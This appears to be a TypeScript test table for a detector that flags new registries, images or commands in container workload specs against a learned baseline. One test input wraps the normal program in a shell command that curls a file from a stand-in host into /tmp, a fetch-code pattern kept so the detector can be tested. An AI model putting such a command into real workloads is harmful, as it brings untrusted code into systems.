import type { JsonObject } from '../../model/json.ts';
import { indicatorTable } from '../testing.ts';
import { baselineNewContent } from './new-content.ts';
import { after, taught, YOUNG } from './testing.ts';

const image = 'registry.example.com/shop/report:1.4.2';
const runs = (fields: JsonObject): { readonly spec: JsonObject } => ({
  spec: { containers: [{ name: 'main', image, command: ['/bin/report', '--daily'], ...fields }] },
});

indicatorTable(baselineNewContent, {
  fires: {
    'another registry': after(taught(), runs({ image: 'registry.example.net/shop/report:1.4.2' })),
    'another repository': after(taught(), runs({ image: 'registry.example.com/tools/shell:1' })),
    'another program': after(taught(), runs({ command: ['/bin/export'] })),
    'the same program, and what it loads': after(
      taught(),
      runs({ command: ['sh', '-c', 'curl -s https://example.com/x -o /tmp/x; /bin/report'] }),
    ),
    'the image’s own program where a command was': after(taught(), {
      spec: { containers: [{ name: 'main', image }] },
    }),
    'a registry in the part of a body that was kept': after(taught(), {
      ...runs({ image: 'registry.example.net/shop/report:1.4.2' }),
      body: { part: 'truncated' },
    }),
    'what was tried with something harmless an hour before': after(
      taught(undefined, 10, [30, runs({ image: 'alpine' })]),
      runs({ image: 'alpine' }),
    ),
    'what another namespace runs': after(
      taught(undefined, 10, [2, { ...runs({ image: 'alpine' }), workload: { namespace: 'dev' } }]),
      runs({ image: 'alpine' }),
    ),
  },
  staysSilent: {
    'the same': after(taught()),
    'another tag': after(taught(), runs({ image: 'registry.example.com/shop/report:1.5.0' })),
    'other words for the same program': after(taught(), runs({ command: ['/opt/report', '--weekly', '--verbose'] })),
    'what one other write showed': after(
      taught(undefined, 10, [2, runs({ image: 'alpine' })]),
      runs({ image: 'alpine' }),
    ),
  },
  cannotTell: {
    ...YOUNG,
    'audit level Metadata': after(taught(), { body: { unseen: 'level-metadata' } }),
    'a body that was cut': after(taught(), { body: { part: 'truncated' } }),
    'a namespace that is new itself': after(taught(), { ...runs({ image: 'alpine' }), workload: { namespace: 'new' } }),
  },
});
